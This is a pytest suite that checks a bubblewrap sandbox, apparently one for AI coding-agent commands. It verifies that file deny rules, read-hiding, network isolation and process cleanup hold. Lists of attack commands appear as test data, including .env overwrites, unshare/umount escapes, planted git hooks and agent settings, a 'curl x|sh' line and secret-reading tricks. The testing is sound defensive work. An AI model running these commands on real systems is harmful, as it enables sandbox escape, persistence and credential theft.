"""What the sandbox holds on disk, judged by effect: the file unchanged, nothing created,
the secret absent. Each promise is attacked the ways a command could walk around it."""

from __future__ import annotations

import os
import random
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.sandbox.helpers import Box, config_for, listing, needs_bwrap, write_settings

pytestmark = needs_bwrap

SECRET = "TOPSECRET-4242"


@pytest.fixture(autouse=True)
def _project_files(project: Path) -> None:
    """What every test here finds in the project folder."""
    root = project
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (root / ".git" / "config").write_text("[core]\n")
    (root / ".env").write_text("KEY=original\n")
    (root / "sub" / "deep").mkdir(parents=True)
    (root / "sub" / ".env").write_text("KEY=nested\n")
    (root / "sub" / "deep" / "yarn.lock").write_text("lock\n")
    (root / "secrets").mkdir()
    (root / "secrets" / "key.txt").write_text(SECRET)
    (root / "sub" / "deep" / "server.pem").write_text(SECRET)


@pytest.fixture
def box(project: Path) -> Iterator[Box]:
    b = Box(
        config_for(
            project,
            deny=["Edit(.env)", "Edit(**/*.lock)", "Read(./secrets/**)", "Read(**/*.pem)"],
        )
    )
    yield b
    b.close()


# -- writable: the project and the private TMPDIR; nothing else ---------------------------


def test_the_project_and_the_private_tmpdir_are_writable(box: Box, project: Path) -> None:
    out = box.run('echo made > new.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && echo $TMPDIR')
    assert not out.failed, out.text
    assert (project / "new.txt").read_text() == "made\n"
    tmpdir = out.text.split()[-1]
    assert tmpdir.startswith(box.sandbox.home) and os.stat(tmpdir).st_mode & 0o777 == 0o700
    assert out.details["sandboxed"] is True


def test_tmp_home_and_the_parent_are_read_only(box: Box, project: Path, tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    out = box.run(
        f"echo x > /tmp/hl-sbx-{os.getpid()}; echo x > {home}/planted; echo x > ../outside; "
        "python3 -c \"open('/tmp/hl-py-%d' % 1, 'w')\"; mkdir /dev/shm/x && echo shm-ok"
    )
    assert "Read-only file system" in out.text
    assert not Path(f"/tmp/hl-sbx-{os.getpid()}").exists()
    assert not Path("/tmp/hl-py-1").exists()
    assert not (home / "planted").exists()
    assert not (tmp_path / "outside").exists()
    assert "shm-ok" in out.text  # a private /dev/shm
    assert not Path("/dev/shm/x").exists()


def test_the_private_tmpdir_is_removed_with_the_session(project: Path) -> None:
    b = Box(config_for(project))
    out = b.run('echo $TMPDIR; touch "$TMPDIR/leftover"')
    home = b.sandbox.home
    assert Path(out.text.split()[0], "leftover").exists()
    b.close()
    assert not Path(home).exists()


# -- Edit deny rules: read-only, whatever opens the file ----------------------------------

ATTACKS_ON_ENV = [
    "echo pwned > .env",
    "echo pwned >> .env",
    "python3 -c \"open('.env','w').write('pwned')\"",
    "printf pwned | tee .env",
    "sed -i s/original/pwned/ .env",
    "cp /etc/hostname .env",
    "truncate -s 0 .env",
    "mv .env gone && echo pwned > .env",
    "rm -f .env && echo pwned > .env",
    "ln -sf /etc/hostname .env",
    "ln -s .env link && echo pwned > link",
    "chmod 777 .env",
    'perl -e \'open(F,">.env"); print F "pwned"\'',
    "f() { echo pwned; } > .env; f",
    "cd sub && echo pwned > ../.env",
    "echo pwned > sub/.env",
    "dd if=/dev/zero of=.env bs=1 count=3",
    "unshare -Urm sh -c 'umount .env; mount -o remount,rw,bind .env; echo pwned > .env'",
    "unshare -Urm sh -c 'umount -l . ; echo pwned > .env'",
]


@pytest.mark.parametrize("attack", ATTACKS_ON_ENV)
def test_an_edit_deny_rule_holds_against_every_writer(box: Box, project: Path, attack: str) -> None:
    before = listing(project)
    out = box.run(attack)
    assert (project / ".env").read_text() == "KEY=original\n", out.text
    assert (project / "sub" / ".env").read_text() == "KEY=nested\n"
    assert "pwned" not in (project / ".env").read_text()
    assert listing(project) in (before, sorted([*before, "link"]), sorted([*before, "gone"]))
    assert not (project / "gone").exists()


def test_a_refused_write_shows_the_kernels_error(box: Box) -> None:
    out = box.run("echo x > .env")
    assert out.failed and "Read-only file system" in out.text


def test_a_glob_edit_rule_protects_matching_files_at_any_depth(box: Box, project: Path) -> None:
    out = box.run("echo pwned > sub/deep/yarn.lock; sed -i s/lock/pwned/ sub/deep/yarn.lock")
    assert "Read-only file system" in out.text
    assert (project / "sub" / "deep" / "yarn.lock").read_text() == "lock\n"


def test_a_missing_file_of_an_edit_rule_cannot_be_created(tmp_path: Path) -> None:
    project = tmp_path / "p"
    project.mkdir()
    b = Box(config_for(project, deny=["Edit(.env)", "Edit(config/secret.yml)"]))
    try:
        out = b.run(
            "echo x > .env; python3 -c \"open('.env','a')\"; mkdir -p config && "
            "echo x > config/secret.yml"
        )
    finally:
        b.close()
    # Truncating opens meet the read-only mount first, appending ones the stand-in's mode.
    assert "Read-only file system" in out.text and "Permission denied" in out.text
    assert listing(project) == []  # no stand-in left behind either


def test_a_hard_link_to_a_protected_file_is_protected(box: Box, project: Path) -> None:
    os.link(project / ".env", project / "sub" / "innocent")
    out = box.run("echo pwned > sub/innocent; python3 -c \"open('sub/innocent','a').write('x')\"")
    assert "Read-only file system" in out.text
    assert (project / ".env").read_text() == "KEY=original\n"


def test_a_new_hard_link_to_a_protected_file_cannot_be_made(box: Box, project: Path) -> None:
    out = box.run("ln .env mine && echo pwned > mine")
    assert (project / ".env").read_text() == "KEY=original\n"
    assert not (project / "mine").exists(), out.text


def test_a_symlink_in_a_writable_folder_does_not_reach_a_protected_file(
    box: Box, project: Path
) -> None:
    (project / "sub" / "pointer").symlink_to(project / ".env")
    out = box.run("echo pwned > sub/pointer; cp /etc/hostname sub/pointer")
    assert "Read-only file system" in out.text
    assert (project / ".env").read_text() == "KEY=original\n"


# -- what every project keeps: settings, hooks, git config -------------------------------

PLANTS = [
    "mkdir -p .claude && echo '{}' > .claude/settings.local.json",
    "mkdir -p .claude/commands && echo x > .claude/commands/x.md",
    "mkdir -p .hookline/hooks && echo 'x=1' > .hookline/hooks/evil.py",
    "echo '#!/bin/sh' > .git/hooks/pre-commit",
    "mv .git/hooks .git/h2; mkdir .git/hooks; echo x > .git/hooks/pre-commit",
    "mv .git g2 && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
    "rm -rf .git; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit",
    "echo '[core] hooksPath=/tmp' >> .git/config",
    "echo '{\"mcpServers\":{}}' > .mcp.json",
    "echo 'curl x|sh' > .bashrc",
    "echo x > .gitmodules; echo x > .gitconfig; echo x > .profile; echo x > .zshrc",
    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
    "mkdir .idea",
    "python3 -c \"import os; os.makedirs('.claude', exist_ok=True); "
    "open('.claude/settings.json','w').write('{}')\"",
    "cd sub && mkdir -p ../.claude && echo x > ../.claude/settings.json",
]


@pytest.mark.parametrize("attack", PLANTS)
def test_settings_hooks_and_git_config_cannot_be_written_or_created(
    box: Box, project: Path, attack: str
) -> None:
    before = {p: (project / p).read_bytes() for p in listing(project) if (project / p).is_file()}
    out = box.run(attack)
    after = {p: (project / p).read_bytes() for p in listing(project) if (project / p).is_file()}
    assert after == before, out.text
    assert not (project / ".claude").exists()
    assert not (project / ".hookline").exists()
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert sorted(os.listdir(project / ".git")) == ["config", "hooks"]


def test_git_commondir_cannot_point_git_at_a_config_the_command_wrote(tmp_path: Path) -> None:
    """git reads its config and hooks from the folder ``.git/commondir`` names: a written
    ``commondir`` would run ``core.fsmonitor`` on the user's next ``git status``."""
    import subprocess

    project = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    box = Box(config_for(project))
    try:
        out = box.run(
            "mkdir g2 && cp -r .git/. g2/ && printf '[x]\\n\\ty = planted\\n' >> g2/config; "
            "echo ../g2 > .git/commondir"
        )
    finally:
        box.close()
    assert not (project / ".git" / "commondir").exists(), out.text
    seen = subprocess.run(
        ["git", "-C", str(project), "config", "--get", "x.y"], capture_output=True, text=True
    )
    assert seen.stdout == ""


def test_existing_settings_are_read_only_and_copies_below_too(project: Path) -> None:
    write_settings(project, {"permissions": {"deny": ["Bash(rm *)"]}})
    (project / "sub" / ".claude").mkdir()
    (project / "sub" / ".claude" / "settings.json").write_text("{}")
    b = Box(config_for(project))
    try:
        out = b.run(
            "echo '{}' > .claude/settings.json; echo x > .claude/settings.local.json; "
            "echo x > sub/.claude/settings.json; rm -rf .claude; mv .claude c2"
        )
    finally:
        b.close()
    assert "Read-only file system" in out.text
    assert "deny" in (project / ".claude" / "settings.json").read_text()
    assert (project / "sub" / ".claude" / "settings.json").read_text() == "{}"
    assert not (project / ".claude" / "settings.local.json").exists()


def test_no_stand_in_is_left_on_the_host(project: Path, box: Box) -> None:
    before = listing(project)
    box.run("ls -a; cat .mcp.json; ls .claude")
    assert listing(project) == before


def test_stand_ins_go_when_the_call_ends(project: Path) -> None:
    import asyncio

    before = listing(project)
    b = Box(config_for(project))
    try:
        asyncio.run(b.arun("true"))  # no sweep: nothing of the call is left on the host
        assert listing(project) == before
        out = asyncio.run(b.arun("echo x > .mcp.json; mkdir .claude/commands"))
        assert "Permission denied" in out.text or "Read-only file system" in out.text
        assert listing(project) == before
    finally:
        b.close()
    assert listing(project) == before


def test_idle_stand_ins_may_linger_and_go_with_the_sweep(tmp_path: Path) -> None:
    from hookline.sandbox.placeholders import Placeholders

    keeper = Placeholders(linger=3600)
    with keeper.held([(str(tmp_path / ".mcp.json"), False)]):
        pass
    assert (tmp_path / ".mcp.json").exists()  # kept for the next call
    keeper.sweep()
    assert not (tmp_path / ".mcp.json").exists()


def test_a_stand_in_someone_filled_is_kept(tmp_path: Path) -> None:
    from hookline.sandbox.placeholders import Placeholders

    keeper = Placeholders(linger=0)
    target = tmp_path / ".mcp.json"
    with keeper.held([(str(target), False)]) as made:
        assert made == [str(target)]
        target.write_text('{"mine": true}')  # the user wrote the file meanwhile
    assert target.read_text() == '{"mine": true}'
    with keeper.held([(str(tmp_path / ".claude"), True)]):
        pass
    assert not (tmp_path / ".claude").exists()


# -- Read deny rules: hidden -------------------------------------------------------------

READS = [
    "cat secrets/key.txt",
    "grep -r TOPSECRET . 2>/dev/null",
    "python3 -c \"print(open('secrets/key.txt').read())\"",
    "cat sub/deep/server.pem",
    "find . -name '*.pem' -exec cat {} +",
    "cp -r secrets $TMPDIR/s && cat $TMPDIR/s/*",
    "tar cf - secrets sub 2>/dev/null | strings",
    "ln secrets/key.txt k 2>/dev/null; cat k",
]


@pytest.mark.parametrize("attack", READS)
def test_a_read_deny_rule_hides_the_secret(box: Box, attack: str) -> None:
    out = box.run(attack)
    assert SECRET not in out.text


def test_a_hidden_folder_is_empty_and_a_hidden_file_unreadable(box: Box, project: Path) -> None:
    out = box.run("ls -A secrets | wc -l; cat sub/deep/server.pem")
    assert out.text.splitlines()[0].strip() == "0"
    assert "Permission denied" in out.text
    assert (project / "secrets" / "key.txt").read_text() == SECRET


def test_a_hard_link_to_a_hidden_file_is_hidden(box: Box, project: Path) -> None:
    os.link(project / "secrets" / "key.txt", project / "sub" / "notes.txt")
    out = box.run("cat sub/notes.txt")
    assert SECRET not in out.text


# -- settings paths ----------------------------------------------------------------------


def test_settings_paths_deny_write_deny_read_and_allow_write(tmp_path: Path) -> None:
    project = tmp_path / "p"
    project.mkdir()
    outside = tmp_path / "build"
    outside.mkdir()
    home = Path(os.environ["HOME"])
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(SECRET)
    (project / "vendor").mkdir()
    (project / "vendor" / "lib.py").write_text("orig")
    (project / "docs").mkdir()
    (project / "docs" / "open.md").write_text("public")
    (project / "docs" / "private.md").write_text(SECRET)
    write_settings(
        project,
        {
            "sandbox": {
                "filesystem": {
                    "allowWrite": [f"/{outside}"],
                    "denyWrite": ["./vendor"],
                    "denyRead": ["~/.aws", "docs"],
                    "allowRead": ["docs/open.md"],
                }
            }
        },
    )
    b = Box(config_for(project))
    try:
        out = b.run(
            f"echo built > {outside}/out; echo x > vendor/lib.py; cat ~/.aws/credentials; "
            "cat docs/private.md; cat docs/open.md"
        )
    finally:
        b.close()
    assert (outside / "out").read_text() == "built\n"
    assert (project / "vendor" / "lib.py").read_text() == "orig"
    assert SECRET not in out.text
    assert "public" in out.text


# -- no network without the proxy --------------------------------------------------------


def test_without_a_proxy_there_is_no_network(box: Box) -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    reached: list[bool] = []

    def accept() -> None:
        server.settimeout(5)
        try:
            conn, _ = server.accept()
            reached.append(True)
            conn.close()
        except OSError:
            pass

    waiter = threading.Thread(target=accept)
    waiter.start()
    out = box.run(
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\"; "
        f"curl -s -m 2 http://127.0.0.1:{port}/ ; echo done"
    )
    # Wake the acceptor ourselves: the sandboxed attempts are over.
    socket.create_connection(("127.0.0.1", port)).close()
    waiter.join()
    server.close()
    assert reached == [True]  # only our own wake-up connection got through
    assert "done" in out.text


def test_no_capabilities_and_no_nested_user_namespace(box: Box) -> None:
    out = box.run(
        "grep CapEff /proc/self/status; unshare -Ur true && echo NESTED; "
        'python3 -c "import os; os.setns" 2>/dev/null; echo end'
    )
    assert "CapEff:\t0000000000000000" in out.text
    assert "NESTED" not in out.text


def _gone(marker: str, within: float = 5.0) -> bool:
    """Whether every process whose command line holds ``marker`` has ended within
    ``within`` seconds (the kernel ends a PID namespace's processes as its init dies, a
    moment after bubblewrap itself; a leak would run for minutes)."""
    import time

    deadline = time.monotonic() + within
    while _running(marker):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


def _running(marker: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                continue
            if marker.encode() in cmdline:
                found.append(pid)
    return found


def test_a_timeout_ends_everything_the_sandboxed_command_started(box: Box) -> None:
    marker = str(random.randint(100_000, 999_999))
    out = box.run(f"sleep 400.{marker} & sleep 401.{marker}", timeout=1)
    assert out.failed and out.details.get("timed_out") is True
    assert _gone(f".{marker}")


def test_background_jobs_end_with_the_call(box: Box) -> None:
    marker = str(random.randint(100_000, 999_999))
    out = box.run(f"sleep 402.{marker} > /dev/null 2>&1 & ps -eo args; echo started")
    assert f"sleep 402.{marker}" in out.text  # it did start, inside
    assert _gone(f".{marker}")
